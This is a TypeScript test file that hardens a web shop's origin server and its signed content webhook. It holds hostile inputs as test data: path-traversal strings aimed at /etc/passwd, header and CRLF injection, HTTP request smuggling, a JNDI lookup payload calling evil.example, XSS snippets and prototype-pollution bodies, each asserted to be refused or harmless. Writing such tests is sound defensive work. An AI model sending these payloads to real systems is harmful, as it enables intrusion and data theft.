import { randomBytes } from 'node:crypto';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { pino } from 'pino';
import { Webhook } from 'standardwebhooks';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { PublishedPages } from '#content-sync/publish/published-pages.ts';
import { createResponseCache } from '#server/http/requests/response-cache.ts';
import { createRequestFront } from '#server/operations/request-front.ts';
import { createContentWebhooks } from '#sources/content-webhooks.ts';
import { TIER } from '../../tier.ts';
import { rawConnection } from './raw-connection.ts';
import { publishedPage, startOrigin } from './test-origin.ts';

const SECRET = `whsec_${randomBytes(24).toString('base64')}`;
const FLOOD = TIER === 'fast' ? 1_000 : 100_000;
const PAGE = '<p>velvet lipstick</p>';

const taken = new Set<string>();
let takes = 0;
let origin: Awaited<ReturnType<typeof startOrigin>>;

const pages: PublishedPages = {
  async read(path) {
    if (path === 'sg/en/index.html') return publishedPage(PAGE);
    return path.endsWith('/404/index.html') ? publishedPage('missing') : undefined;
  },
  version: () => '1',
  close() {},
};

beforeAll(async () => {
  const front = createRequestFront({
    log: pino({ level: 'silent' }),
    responseCache: createResponseCache({ pages }),
  });
  origin = await startOrigin({
    pages,
    rateLimits: { hooks: 1_000_000 },
    hooks: {
      webhooks: createContentWebhooks([SECRET]),
      enqueue: async ({ id }) => {
        takes += 1;
        taken.add(id);
      },
    },
    listening: { front, limits: { requestMs: 1_500, headersMs: 1_500 } },
  });
});
afterAll(() => origin.stop());

/** Whether shoppers are served as if nothing had happened. */
async function isWell(): Promise<boolean> {
  const { status, body } = await origin.ask('/');
  return status === 200 && String(body) === PAGE;
}

const MESSAGE = JSON.stringify({
  type: 'content.changed',
  timestamp: '2026-01-31T08:00:00Z',
  data: { countries: ['SG'], records: [{ type: 'products', id: '1', version: 2 }] },
});

function signed(id: string, body: string, at = new Date()) {
  return {
    'webhook-id': id,
    'webhook-timestamp': String(Math.floor(at.getTime() / 1_000)),
    'webhook-signature': new Webhook(SECRET).sign(id, at, body),
  };
}

const hook = (headers: Record<string, string>, body: string) =>
  origin.ask('/hooks/content', { method: 'POST', headers, body });

describe('a webhook that', () => {
  const HOUR_AGO = new Date(Date.now() - 3_600_000);
  const old = () => signed('h1', MESSAGE, HOUR_AGO);
  const later = String(Math.floor(Date.now() / 1_000));

  test.for<[string, number, () => Record<string, string>, string]>([
    ['is not signed', 400, () => ({}), MESSAGE],
    ['is signed for another body', 401, () => signed('h1', '{}'), MESSAGE],
    [
      'is signed for another id',
      401,
      () => ({ ...signed('h1', MESSAGE), 'webhook-id': 'h2' }),
      MESSAGE,
    ],
    ['is an old one sent again', 400, old, MESSAGE],
    ['is an old one made young', 401, () => ({ ...old(), 'webhook-timestamp': later }), MESSAGE],
    ['has a time that is none', 400, () => ({ ...old(), 'webhook-timestamp': 'NaN' }), MESSAGE],
    ['lost its end', 401, () => signed('h1', MESSAGE), MESSAGE.slice(0, -9)],
    ['is signed, and no JSON', 400, () => signed('h1', '{"type":'), '{"type":'],
    ['is signed, and of no shape', 400, () => signed('h1', '[[[]]]'), '[[[]]]'],
    ['is a nest of brackets', 400, () => signed('h1', NEST), NEST],
    ['is larger than any', 413, () => signed('h1', LARGE), LARGE],
    [
      'has a signature without end',
      431,
      () => ({ 'webhook-signature': 'v1,'.repeat(9_000) }),
      MESSAGE,
    ],
    ['poisons prototypes', 400, () => signed('h1', POISON), POISON],
  ])('%s is refused', async ([_, status, headers, body]) => {
    expect((await hook(headers(), body)).status).toBe(status);
    expect(taken.size).toBe(0);
    expect(await isWell()).toBe(true);
  });

  test('is slow is cut, and delays nobody', async () => {
    const connection = await rawConnection(origin.port);
    connection.send('POST /hooks/content HTTP/1.1\r\nHost: shop\r\nContent-Length: 900\r\n');
    connection.send(`webhook-id: slow\r\n\r\n${MESSAGE.slice(0, 10)}`);
    expect(await isWell()).toBe(true);
    expect(await connection.whole()).not.toMatch(/ 202 /);
    expect(taken.size).toBe(0);
  });

  test('is good is accepted, amid a hail of others', async () => {
    const forged = { ...signed('h9', MESSAGE), 'webhook-signature': 'v1,AAAA' };
    const hail = Array.from({ length: 60 }, () => hook(forged, MESSAGE));
    const good = await hook(signed('good', MESSAGE), MESSAGE);
    expect(good.status).toBe(202);
    expect(new Set((await Promise.all(hail)).map(({ status }) => status))).toEqual(new Set([401]));
    expect([...taken]).toEqual(['good']);
    expect(takes).toBe(1);
  });
});

const NEST = '['.repeat(50_000);
const LARGE = `"${'x'.repeat(2 * 1024 * 1024)}"`;
const POISON =
  '{"type":"content.changed","timestamp":"2026-01-31T08:00:00Z","data":{"__proto__":{"countries":["SG"]}}}';

describe('an address', () => {
  test.each([
    '/../../../../etc/passwd',
    '/..%2f..%2f..%2fetc%2fpasswd',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/..%5c..%5csecret.txt',
    '/....//....//secret.txt',
    '/%c0%ae%c0%ae/secret.txt',
    '/_astro/../../secret.txt',
    '/_astro/%2e%2e%2f%2e%2e%2fsecret.txt',
    '/pictures/../secret.txt',
    '/secret.txt%00.html',
    '/%0d%0aSet-Cookie:%20a=b',
    '/products/%0aLocation:%20http://evil.example',
    '/\u00e9'.replace('\u00e9', '%e9'),
    '/%',
    '/%zz',
    `/${'a/'.repeat(3_000)}`,
    `/${'%20'.repeat(2_000)}`,
    '//evil.example/%2e%2e',
    '/products/__proto__/constructor',
    '/?page=99999999999999999999',
    '/?country_code=__proto__&language=constructor',
    `/?${'a=b&'.repeat(3_000)}`,
  ])('%s reveals nothing', async (path) => {
    const answer = await origin.ask(path);
    expect(answer.status).toBeLessThan(500);
    expect(String(answer.body)).not.toMatch(/root:|secret(?!\.txt)|at .+\.ts:/);
    expect(answer.headers['set-cookie']).toBeUndefined();
    expect(String(answer.headers.location ?? '')).not.toMatch(/^(?:https?:)?\/\/evil/);
    expect(await isWell()).toBe(true);
  });

  test.each([
    'GET / HTTP/1.1\r\nHost: shop\r\nHost: evil.example\r\n\r\n',
    'GET http://evil.example/ HTTP/1.1\r\nHost: shop\r\n\r\n',
    'GET / HTTP/1.1\r\nHost: evil.example/x?y\r\n\r\n',
    'GET /\\evil.example HTTP/1.1\r\nHost: shop\r\n\r\n',
    'GET / HTTP/1.1\r\n\r\n',
    'GET / HTTP/9.9\r\nHost: shop\r\n\r\n',
    'OPTIONS * HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n',
    'CONNECT evil.example:443 HTTP/1.1\r\nHost: shop\r\n\r\n',
    'TRACE / HTTP/1.1\r\nHost: shop\r\nX-Secret: s3cret\r\nConnection: close\r\n\r\n',
    'POST / HTTP/1.1\r\nHost: shop\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x',
    'POST /hooks/content HTTP/1.1\r\nHost: shop\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n',
    'GET / HTTP/1.1\r\nHost: shop\r\nX: a\rb\r\n\r\n',
    '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
  ])('or request of the wrong form is refused or harmless (%j)', async (text) => {
    const connection = await rawConnection(origin.port);
    connection.send(text);
    const received = await Promise.race([
      connection.until(/\r\n\r\n/).catch(String),
      connection.whole(),
    ]);
    connection.destroy();
    expect(received).not.toMatch(/^HTTP\/1\.1 5|s3cret|evil\.example/);
    expect(await isWell()).toBe(true);
  });
});

describe('what a request says besides its address', () => {
  test.each<[string, Record<string, string>]>([
    ['a forwarded host', { 'X-Forwarded-Host': 'evil.example' }],
    ['a forwarded protocol', { 'X-Forwarded-Proto': 'gopher' }],
    ['another host', { Host: 'evil.example' }],
    ['an original address', { 'X-Original-URL': '/admin', 'X-Rewrite-URL': '/admin' }],
    ['another method', { 'X-HTTP-Method-Override': 'DELETE' }],
    ['a cookie', { Cookie: 'x="><script>alert(1)</script>; session=1' }],
    ['an endless cookie', { Cookie: `a=${'x'.repeat(8_000)}` }],
    ['languages', { 'Accept-Language': 'th, ko;q=0.9' }],
    ['a range', { Range: 'bytes=0-1' }],
    ['a referrer', { Referer: 'http://evil.example/', Origin: 'http://evil.example' }],
    ['a user agent', { 'User-Agent': '\x24{jndi:ldap://evil.example/a}' }],
    ['an encoding', { 'Accept-Encoding': 'br;q=1.0, evil;q=2' }],
    ['an id', { 'X-Request-Id': '"><script>' }],
  ])('%s is in no page, and in no page that others get', async (_, headers) => {
    const poisoned = await origin.ask('/', { headers });
    expect(poisoned.status).toBe(200);
    expect(JSON.stringify(poisoned.headers)).not.toMatch(/evil|script>|admin/);
    expect(String(poisoned.body)).toBe(PAGE);
    const others = await origin.ask('/');
    expect(String(others.body)).toBe(PAGE);
    expect(JSON.stringify(others.headers)).not.toMatch(/evil|script>|admin/);
  });
});

/** Bytes still referenced after a garbage collection. */
function heldBytes(): number {
  setFlagsFromString('--expose-gc');
  const collect = runInNewContext('gc') as () => void;
  collect();
  return process.memoryUsage().heapUsed;
}

test(`${FLOOD} addresses that there are not cost no memory`, { timeout: 300_000 }, async () => {
  const floodOf = async (count: number, from: number) => {
    for (let done = 0; done < count; done += 50) {
      const some = Array.from({ length: 50 }, (_, index) =>
        origin.ask(`/products/${'long-name-'.repeat(300)}${from + done + index}?q=${done}`),
      );
      for (const { status } of await Promise.all(some)) expect(status).toBe(404);
    }
  };
  await floodOf(500, 0);
  const before = heldBytes();
  await floodOf(FLOOD, 500);
  // The addresses alone are 3 KB each.
  expect((heldBytes() - before) / (3_000 * FLOOD)).toBeLessThan(0.5);
  expect(await isWell()).toBe(true);
});
